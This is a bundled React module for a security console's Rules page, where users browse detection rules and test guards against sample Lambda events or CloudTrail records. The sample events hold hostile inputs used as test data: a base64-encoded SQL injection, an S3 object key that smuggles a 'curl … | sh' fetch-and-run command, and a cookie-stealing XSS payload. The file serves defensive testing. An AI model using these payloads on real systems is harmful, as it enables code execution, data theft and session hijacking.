import { n as __toESM } from "./rolldown-runtime-CO0Nlsmt.js";
import { T as Button, a as DetailPanel, m as ProblemAlert } from "./index-CRNxE51F.js";
import { t as SegmentedControl } from "./segmented-control-DHfuBxrS.js";
import { t as require_react } from "./react-HmIquqiG.js";
import { t as Page } from "./page-DqfLZ-rU.js";
import { i as Link, t as PageLink } from "./page-link-Z9hJFKrH.js";
import { t as SeverityText } from "./severity-text-BzaiBpXN.js";
import { c as useTimeText, t as DataTable } from "./data-table-Dvho8up9.js";
import { a as call, n as useApi } from "./use-api-Cj0GgpEF.js";
import { n as useList } from "./use-list-DM88_2Dl.js";
import { n as useUrl } from "./use-url-nGfBaBoH.js";
import { n as Box, t as SpaceBetween } from "./space-between-BpcvPl4u.js";
import { t as CopyToClipboard } from "./copy-to-clipboard-DrYpy1gg.js";
import { t as KeyValuePairs } from "./key-value-pairs-DIasT1Kf.js";
import { t as require_jsx_runtime } from "./jsx-runtime-JtghFWd6.js";
import { t as FormField } from "./form-field-D3MdNr1s.js";
import { t as Select } from "./select-Bvkpp66_.js";
import { t as Textarea } from "./textarea-Bd67jS0v.js";
import { t as useAsk } from "./use-ask-TYyPR0yl.js";
import { t as StatusIndicator } from "./status-indicator-D49Nn60N.js";
import { t as Table } from "./table-DAbfcDMb.js";
// packages/console/src/pages/rules/rule-kinds.ts
var import_react = /* @__PURE__ */ __toESM(require_react(), 1);
/** Kinds of rules in the words of the product. */
var RULE_KINDS = [
	{
		kind: "detection",
		title: "Detection",
		plural: "Detections"
	},
	{
		kind: "event-rule",
		title: "Event rule (Sigma)",
		plural: "Event rules"
	},
	{
		kind: "guard-detector",
		title: "Guard detector",
		plural: "Guard detectors"
	},
	{
		kind: "posture-rule",
		title: "Posture rule",
		plural: "Posture rules"
	}
];
// packages/console/src/pages/rules/rule-panel.tsx
var import_jsx_runtime = require_jsx_runtime();
/** A rule's definition. */
function RulePanel(props) {
	const { id, onSelect } = props;
	const [kind = "", ...rest] = id.split("/");
	const found = useApi("GET /rules/:kind/:id", { params: {
		kind,
		id: rest.join("/")
	} });
	const close = (0, import_react.useCallback)(() => onSelect(void 0), [onSelect]);
	return /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(DetailPanel, {
		title: found.data?.rule.title ?? "Rule",
		onClose: close,
		children: [found.error === null ? null : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(ProblemAlert, { error: found.error }), found.data === void 0 ? null : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Definition, { found: found.data })]
	});
}
function Definition({ found }) {
	const { change } = useUrl();
	const { rule, description, fix, tags, falsePositives, references, text, page } = found;
	const test = TEST_OF[rule.kind];
	const items = [
		{
			label: "Id",
			value: /* @__PURE__ */ (0, import_jsx_runtime.jsx)("span", {
				className: "wt-mono",
				children: rule.id
			})
		},
		{
			label: "Kind",
			value: RULE_KINDS.find(({ kind }) => kind === rule.kind)?.title ?? rule.kind
		},
		{
			label: "Severity",
			value: rule.severity === "" ? "by occasion" : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(SeverityText, { severity: rule.severity })
		},
		{
			label: "Mode",
			value: rule.mode
		},
		...rule.code === "" ? [] : [{
			label: "Code",
			value: rule.code
		}],
		...tags.length === 0 ? [] : [{
			label: rule.kind === "posture-rule" ? "Risks" : "ATT&CK",
			value: tags.join(", ")
		}],
		{
			label: "Page",
			value: /* @__PURE__ */ (0, import_jsx_runtime.jsx)("span", {
				className: "wt-mono",
				children: page
			})
		}
	];
	return /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(SpaceBetween, {
		size: "m",
		children: [
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, { children: description }),
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(KeyValuePairs, {
				columns: 2,
				items
			}),
			test === void 0 ? null : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Button, {
				onClick: () => change({ test }),
				children: test === "lambda-event" ? "Test the guard with an event" : "Test this rule with a record"
			}),
			fix === "" ? null : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Part, {
				title: "Fix",
				children: fix
			}),
			falsePositives.length === 0 ? null : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Part, {
				title: "Known harmless causes",
				children: /* @__PURE__ */ (0, import_jsx_runtime.jsx)("ul", { children: falsePositives.map((each) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)("li", { children: each }, each)) })
			}),
			references.length === 0 ? null : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Part, {
				title: "References",
				children: /* @__PURE__ */ (0, import_jsx_runtime.jsx)("ul", { children: references.map((each) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)("li", { children: isWebPage(each) ? /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Link, {
					external: true,
					href: each,
					children: each
				}) : each }, each)) })
			}),
			text === "" ? null : /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(Part, {
				title: "Definition",
				children: [/* @__PURE__ */ (0, import_jsx_runtime.jsx)(CopyToClipboard, {
					copyButtonText: "Copy the rule",
					copySuccessText: "Copied",
					copyErrorText: "Cannot copy",
					textToCopy: text
				}), /* @__PURE__ */ (0, import_jsx_runtime.jsx)("pre", {
					className: "wt-mono wt-log-line",
					children: text
				})]
			})
		]
	});
}
/** What a rule of a kind can be tried with. */
var TEST_OF = {
	"guard-detector": "lambda-event",
	"event-rule": "cloudtrail-record"
};
function isWebPage(text) {
	return text.startsWith("https://");
}
function Part({ title, children }) {
	return /* @__PURE__ */ (0, import_jsx_runtime.jsxs)("div", { children: [/* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, {
		variant: "h3",
		children: title
	}), children] });
}
// packages/console/src/pages/rules/example-events.ts
/** Lambda events to begin with: what comes in is what the guard sees. */
var EXAMPLE_EVENTS = [
	{
		title: "HTTP API: an injection in base64 in the query",
		event: httpEvent({ user: base64("' UNION SELECT password FROM users --") })
	},
	{
		title: "HTTP API: an ordinary search",
		event: httpEvent({ user: "Grace Hopper" })
	},
	{
		title: "S3: a command in the name of an object",
		event: { Records: [{
			eventVersion: "2.1",
			eventSource: "aws:s3",
			awsRegion: "eu-west-1",
			eventName: "ObjectCreated:Put",
			s3: {
				s3SchemaVersion: "1.0",
				bucket: {
					name: "uploads",
					arn: "arn:aws:s3:::uploads"
				},
				object: {
					key: "report.pdf%3B+curl+http%3A%2F%2F192.0.2.66%2Fx+%7C+sh",
					size: 1024
				}
			}
		}] }
	},
	{
		title: "SQS: a script in a message",
		event: { Records: [{
			messageId: "059f36b4-87a3-44ab-83d2-661975830a7d",
			body: JSON.stringify({
				order: 7,
				comment: "<img src=x onerror=alert(document.cookie)>"
			}),
			attributes: { ApproximateReceiveCount: "1" },
			messageAttributes: {},
			eventSource: "aws:sqs",
			eventSourceARN: "arn:aws:sqs:eu-west-1:123456789012:orders",
			awsRegion: "eu-west-1"
		}] }
	}
];
function httpEvent(query) {
	return {
		version: "2.0",
		routeKey: "GET /users",
		rawPath: "/users",
		rawQueryString: new URLSearchParams(query).toString(),
		headers: {
			"user-agent": "curl/8.5.0",
			host: "api.example.com"
		},
		queryStringParameters: query,
		requestContext: {
			accountId: "123456789012",
			http: {
				method: "GET",
				path: "/users",
				protocol: "HTTP/1.1",
				sourceIp: "192.0.2.7"
			}
		},
		isBase64Encoded: false
	};
}
function base64(text) {
	return btoa(text);
}
// packages/console/src/pages/rules/inspection-answer.tsx
var VERDICTS = {
	allow: {
		type: "success",
		text: "Allowed: no detector found an attack"
	},
	alert: {
		type: "warning",
		text: "Alert: the default policy reports and lets it through"
	},
	block: {
		type: "stopped",
		text: "Blocked"
	}
};
/** What the guard says of an event: each violation with the readings that led to it, and every field that was read. */
function InspectionAnswer({ inspection }) {
	const { verdict, trigger, violations, fields, fieldCount, isTruncated } = inspection;
	return /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(SpaceBetween, {
		size: "m",
		children: [
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(StatusIndicator, {
				type: VERDICTS[verdict].type,
				children: VERDICTS[verdict].text
			}),
			/* @__PURE__ */ (0, import_jsx_runtime.jsxs)(Box, { children: [`Read as ${trigger}: ${fieldCount} ${fieldCount === 1 ? "field" : "fields"} that a caller controls.`, isTruncated ? " The event was not read to its end: it costs more than one event may." : ""] }),
			violations.map((each) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)(ViolationSteps, { violation: each }, `${each.detector} ${each.rule} ${each.field}`)),
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(Table, {
				variant: "embedded",
				wrapLines: true,
				items: fields,
				ariaLabels: { tableLabel: "Fields that were read" },
				header: /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, {
					variant: "h3",
					children: violations.length === 0 ? "What was read, and is quiet" : "What was read"
				}),
				empty: "Nothing in this event is a caller's",
				columnDefinitions: FIELD_COLUMNS
			})
		]
	});
}
function ViolationSteps({ violation }) {
	const { detector, rule, field, score, steps, match } = violation;
	return /* @__PURE__ */ (0, import_jsx_runtime.jsxs)("section", {
		"aria-label": `${detector} in ${field}`,
		children: [
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, {
				variant: "h3",
				children: `${detector} (${rule}) in ${field}`
			}),
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, {
				color: "text-body-secondary",
				children: `Score ${score.toFixed(2)}: 0.50 alerts, 0.90 may block`
			}),
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)("ol", {
				className: "wt-steps",
				children: steps.map(({ encoding, text }, index) => /* @__PURE__ */ (0, import_jsx_runtime.jsxs)("li", { children: [index === 0 ? encoding === "" ? "as it came" : `as it came, after ${encoding}` : `${encoding} taken off`, /* @__PURE__ */ (0, import_jsx_runtime.jsx)("pre", {
					className: "wt-mono wt-log-line",
					children: /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Marked, {
						text,
						match: index === steps.length - 1 ? match : ""
					})
				})] }, `${encoding} ${text}`))
			})
		]
	});
}
function Marked({ text, match }) {
	const at = match === "" ? -1 : text.indexOf(match);
	if (at < 0) return /* @__PURE__ */ (0, import_jsx_runtime.jsx)(import_jsx_runtime.Fragment, { children: text });
	return /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(import_jsx_runtime.Fragment, { children: [
		text.slice(0, at),
		/* @__PURE__ */ (0, import_jsx_runtime.jsx)("mark", { children: match }),
		text.slice(at + match.length)
	] });
}
var FIELD_COLUMNS = [
	{
		id: "path",
		header: "Field",
		minWidth: 150,
		cell: ({ path }) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)("span", {
			className: "wt-mono",
			children: path
		}),
		isRowHeader: true
	},
	{
		id: "role",
		header: "Role",
		minWidth: 100,
		cell: ({ role }) => role
	},
	{
		id: "value",
		header: "Value (masked)",
		minWidth: 180,
		cell: ({ value }) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)("span", {
			className: "wt-mono",
			children: value
		})
	},
	{
		id: "readings",
		header: "Also read as",
		minWidth: 130,
		cell: ({ readings }) => readings.length === 0 ? "–" : readings.join("; ")
	}
];
// packages/console/src/pages/rules/record-answer.tsx
/** Which event rules match a record; of a chosen rule, part by part why it does or does not. */
function RecordAnswer({ answer, rule }) {
	const { matches, explained } = answer;
	const isMatch = matches.some((each) => each.rule === rule);
	return /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(SpaceBetween, {
		size: "m",
		children: [
			rule === void 0 ? null : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(StatusIndicator, {
				type: isMatch ? "warning" : "success",
				children: isMatch ? `${rule} matches` : `${rule} does not match`
			}),
			explained.map((each) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)(ExplainedParts, { explained: each }, each.title)),
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, {
				variant: "h3",
				children: `Event rules that match (${matches.length})`
			}),
			matches.length === 0 ? /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, { children: "None: the record is nothing that a rule speaks of." }) : null,
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)("ul", {
				className: "wt-plain-list",
				children: matches.map((each) => /* @__PURE__ */ (0, import_jsx_runtime.jsxs)("li", { children: [
					/* @__PURE__ */ (0, import_jsx_runtime.jsx)(SeverityText, { severity: each.severity }),
					" ",
					/* @__PURE__ */ (0, import_jsx_runtime.jsx)(PageLink, {
						to: "/rules",
						search: { id: `event-rule/${each.rule}` },
						children: each.title
					}),
					each.isAlerting ? "" : " (a signal: alerts only together with others)",
					/* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, {
						color: "text-body-secondary",
						children: each.why
					})
				] }, `${each.rule} ${each.why}`))
			}),
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, {
				color: "text-body-secondary",
				children: "What the principal did before is taken from this store; a correlation needs more than one record."
			})
		]
	});
}
function ExplainedParts({ explained }) {
	const parts = explained.selections.flatMap(({ name, parts: own }) => own.map((part) => ({
		...part,
		selection: name
	})));
	return /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Table, {
		variant: "embedded",
		wrapLines: true,
		items: parts,
		ariaLabels: { tableLabel: `Why: ${explained.title}` },
		header: /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, {
			variant: "h3",
			children: `${explained.title}: ${explained.condition} is ${explained.isMatch ? "true" : "false"}`
		}),
		columnDefinitions: PART_COLUMNS
	});
}
var PART_COLUMNS = [
	{
		id: "field",
		header: "Field",
		minWidth: 170,
		cell: ({ field, selection }) => /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(import_jsx_runtime.Fragment, { children: [/* @__PURE__ */ (0, import_jsx_runtime.jsx)("span", {
			className: "wt-mono",
			children: field
		}), /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Box, {
			variant: "small",
			children: selection
		})] }),
		isRowHeader: true
	},
	{
		id: "wanted",
		header: "Wanted",
		minWidth: 180,
		cell: ({ wanted }) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)("span", {
			className: "wt-mono",
			children: wanted
		})
	},
	{
		id: "seen",
		header: "In the record",
		minWidth: 180,
		cell: ({ seen }) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)("span", {
			className: "wt-mono",
			children: seen === "" ? "–" : seen
		})
	},
	{
		id: "isMatch",
		header: "Holds",
		minWidth: 90,
		cell: ({ isMatch }) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)(StatusIndicator, {
			type: isMatch ? "success" : "not-started",
			children: isMatch ? "yes" : "no"
		})
	}
];
// packages/console/src/pages/rules/test-panel.tsx
/** Asks for an event, and shows what the guard or the event rules say of it, and why. */
function TestPanel({ onClose }) {
	const { text, change } = useUrl();
	const kind = text("test") === "cloudtrail-record" ? "cloudtrail-record" : "lambda-event";
	return /* @__PURE__ */ (0, import_jsx_runtime.jsx)(DetailPanel, {
		title: "Test with an event",
		onClose,
		children: /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(SpaceBetween, {
			size: "m",
			children: [/* @__PURE__ */ (0, import_jsx_runtime.jsx)(SegmentedControl, {
				label: "What to test",
				selectedId: kind,
				onChange: ({ detail }) => change({ test: detail.selectedId }),
				options: [{
					id: "lambda-event",
					text: "Lambda event"
				}, {
					id: "cloudtrail-record",
					text: "CloudTrail record"
				}]
			}), /* @__PURE__ */ (0, import_jsx_runtime.jsx)(EventForm, {
				kind,
				rule: ruleOf(kind, text("id"))
			}, kind)]
		})
	});
}
/** The event rule that the link has chosen. */
function ruleOf(kind, id) {
	return kind === "cloudtrail-record" && id.startsWith("event-rule/") ? id.slice(11) : void 0;
}
function EventForm({ kind, rule }) {
	const [event, setEvent] = (0, import_react.useState)(kind === "lambda-event" ? pretty(EXAMPLE_EVENTS[0]?.event) : "");
	const [answer, setAnswer] = (0, import_react.useState)();
	const { run, isRunning, error } = useAsk("POST /rules/test");
	const parsed = parse(event);
	const test = async () => {
		if (!("value" in parsed)) return;
		const body = {
			kind,
			event: parsed.value,
			...rule === void 0 ? {} : { rule }
		};
		setAnswer(await run({ body }));
	};
	return /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(SpaceBetween, {
		size: "m",
		children: [
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(kind === "lambda-event" ? ExampleChoice : RecordChoice, { onChoose: setEvent }),
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(FormField, {
				stretch: true,
				label: kind === "lambda-event" ? "Event" : "Record",
				description: "JSON, at most 60 kB. Nothing of it is kept.",
				..."problem" in parsed ? { errorText: parsed.problem } : {},
				children: /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Textarea, {
					value: event,
					rows: 9,
					spellcheck: false,
					placeholder: "{ … }",
					onChange: ({ detail }) => setEvent(detail.value),
					onKeyDown: ({ detail }) => {
						if (detail.key === "Enter" && (detail.ctrlKey || detail.metaKey)) test();
					}
				})
			}),
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(Button, {
				variant: "primary",
				disabled: !("value" in parsed),
				loading: isRunning,
				loadingText: "Testing",
				onClick: () => void test(),
				children: rule === void 0 ? "Test" : `Test ${rule}`
			}),
			error === null ? null : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(ProblemAlert, { error }),
			/* @__PURE__ */ (0, import_jsx_runtime.jsxs)("div", {
				"aria-live": "polite",
				children: [answer?.kind === "lambda-event" ? /* @__PURE__ */ (0, import_jsx_runtime.jsx)(InspectionAnswer, { inspection: answer.inspection }) : null, answer?.kind === "cloudtrail-record" ? /* @__PURE__ */ (0, import_jsx_runtime.jsx)(RecordAnswer, {
					answer,
					rule
				}) : null]
			})
		]
	});
}
/** What the server takes in one request, less what surrounds the event. */
var MOST_CHARACTERS = 6e4;
function parse(text) {
	if (text.trim() === "") return { empty: true };
	if (text.length > MOST_CHARACTERS) return { problem: `At most 60 kB, ${text.length} characters given` };
	try {
		return { value: JSON.parse(text) };
	} catch (error) {
		return { problem: error instanceof Error ? `No JSON: ${error.message}` : "No JSON" };
	}
}
function pretty(value) {
	return JSON.stringify(value, null, 2);
}
function ExampleChoice({ onChoose }) {
	return /* @__PURE__ */ (0, import_jsx_runtime.jsx)(FormField, {
		label: "Begin with an example, or paste an event",
		children: /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Select, {
			selectedOption: null,
			placeholder: "Choose an example",
			options: EXAMPLE_EVENTS.map(({ title }) => ({
				value: title,
				label: title
			})),
			onChange: ({ detail }) => onChoose(pretty(EXAMPLE_EVENTS.find(({ title }) => title === detail.selectedOption.value)?.event))
		})
	});
}
/** The newest records of the store that changed something: those are kept whole. */
function RecordChoice({ onChoose }) {
	const { timeText } = useTimeText();
	const query = {
		range: "all",
		f: ["isReadOnly=false"],
		limit: 20
	};
	const calls = useApi("GET /api-calls", { query: {
		...query,
		f: [...query.f]
	} });
	const choose = async (id) => {
		const { call: found } = await call("GET /api-calls/:id", { params: { id } });
		onChoose(found.record === "" ? "" : pretty(JSON.parse(found.record)));
	};
	return /* @__PURE__ */ (0, import_jsx_runtime.jsx)(FormField, {
		label: "Begin with a record of this store, or paste one",
		children: /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Select, {
			selectedOption: null,
			placeholder: "Choose a record",
			statusType: calls.isPending ? "loading" : "finished",
			empty: "No CloudTrail records here",
			options: (calls.data?.rows ?? []).map(({ id, event, principal, time }) => ({
				value: id,
				label: `${event}, ${timeText(time)}`,
				description: principal
			})),
			onChange: ({ detail }) => void choose(detail.selectedOption.value ?? "").catch(() => void 0)
		})
	});
}
// packages/console/src/pages/rules/rules-page.tsx
/** Everything that judges telemetry, events and configuration, with what it has found; any of it can be tried. */
function RulesPage() {
	const { text, change } = useUrl();
	const page = useApi("GET /rules", { query: useList(50) });
	const select = (0, import_react.useCallback)((id) => change({
		id,
		test: void 0
	}), [change]);
	const closeTest = (0, import_react.useCallback)(() => change({ test: void 0 }), [change]);
	const selected = text("id");
	const isTesting = text("test") !== "";
	return /* @__PURE__ */ (0, import_jsx_runtime.jsxs)(Page, {
		title: "Rules",
		description: "What telemetry, events and configuration are judged by, and what each has found.",
		actions: /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Button, {
			variant: "primary",
			onClick: () => change({
				test: "lambda-event",
				id: void 0
			}),
			children: "Test with an event"
		}),
		children: [
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(KindChoice, {}),
			/* @__PURE__ */ (0, import_jsx_runtime.jsx)(DataTable, {
				title: "Rules",
				noun: "rules",
				columns: COLUMNS,
				page: page.data,
				isLoading: page.isPending,
				error: page.error,
				defaultSort: {
					column: "hits",
					isDescending: true
				},
				rowId: rowIdOf,
				selected,
				onSelect: select,
				goodNews: "No rules"
			}),
			selected !== "" && !isTesting ? /* @__PURE__ */ (0, import_jsx_runtime.jsx)(RulePanel, {
				id: selected,
				onSelect: select
			}) : null,
			isTesting ? /* @__PURE__ */ (0, import_jsx_runtime.jsx)(TestPanel, { onClose: closeTest }) : null
		]
	});
}
function rowIdOf({ kind, id }) {
	return `${kind}/${id}`;
}
/** One kind, or all: a condition of the filter in the URL. */
function KindChoice() {
	const { list, change } = useUrl();
	const f = list("f");
	const chosen = RULE_KINDS.find(({ kind }) => f.includes(`kind=${kind}`))?.kind ?? "all";
	return /* @__PURE__ */ (0, import_jsx_runtime.jsx)(SegmentedControl, {
		label: "Kind of rule",
		selectedId: chosen,
		onChange: ({ detail: { selectedId } }) => {
			const others = f.filter((each) => !each.startsWith("kind="));
			change({
				f: selectedId === "all" ? others : [...others, `kind=${selectedId}`],
				cursor: void 0,
				at: void 0,
				id: void 0
			});
		},
		options: [{
			id: "all",
			text: "All"
		}, ...RULE_KINDS.map(({ kind, plural }) => ({
			id: kind,
			text: plural
		}))]
	});
}
/** Where the findings of a rule are listed. */
function foundAt({ kind, id }) {
	if (kind === "guard-detector") return {
		to: "/events",
		f: `attackType=${id}`
	};
	return kind === "posture-rule" ? {
		to: "/posture",
		f: `rule=${id}`
	} : {
		to: "/observations",
		f: `rule=${id}`
	};
}
function Hits({ row, count, range }) {
	if (count === 0) return /* @__PURE__ */ (0, import_jsx_runtime.jsx)(import_jsx_runtime.Fragment, { children: "0" });
	const { to, f } = foundAt(row);
	return /* @__PURE__ */ (0, import_jsx_runtime.jsx)(PageLink, {
		to,
		search: {
			f: [f],
			range
		},
		label: `${count} hits of ${row.title}`,
		children: count.toLocaleString("en-US")
	});
}
var COLUMNS = [
	{
		id: "title",
		header: "Rule",
		column: "title",
		filter: "text",
		minWidth: 260,
		cell: ({ title }) => title
	},
	{
		id: "kind",
		header: "Kind",
		column: "kind",
		filter: "text",
		minWidth: 130,
		cell: ({ kind }) => RULE_KINDS.find((each) => each.kind === kind)?.title ?? kind
	},
	{
		id: "severity",
		header: "Severity",
		column: "severity",
		filter: "severity",
		minWidth: 150,
		cell: ({ severity }) => severity === "" ? "by occasion" : /* @__PURE__ */ (0, import_jsx_runtime.jsx)(SeverityText, { severity })
	},
	{
		id: "mode",
		header: "Mode",
		column: "mode",
		filter: "text",
		minWidth: 120,
		cell: ({ mode }) => mode
	},
	{
		id: "hits24h",
		header: "Hits, 24 h",
		column: "hits24h",
		filter: "number",
		cell: (row) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Hits, {
			row,
			count: row.hits24h,
			range: "24h"
		})
	},
	{
		id: "hits",
		header: "Hits, all",
		column: "hits",
		filter: "number",
		cell: (row) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)(Hits, {
			row,
			count: row.hits,
			range: "all"
		})
	},
	{
		id: "notHelpful",
		header: "Not helpful",
		column: "notHelpful",
		filter: "number",
		cell: ({ judged, notHelpful }) => judged === 0 ? "–" : `${Math.round(100 * notHelpful / judged)}% of ${judged}`
	},
	{
		id: "code",
		header: "Code",
		column: "code",
		filter: "text",
		minWidth: 120,
		cell: ({ code }) => code === "" ? "–" : code
	},
	{
		id: "id",
		header: "Id",
		column: "id",
		filter: "text",
		minWidth: 200,
		cell: ({ id }) => /* @__PURE__ */ (0, import_jsx_runtime.jsx)("span", {
			className: "wt-mono",
			children: id
		})
	}
];
export { RulesPage };
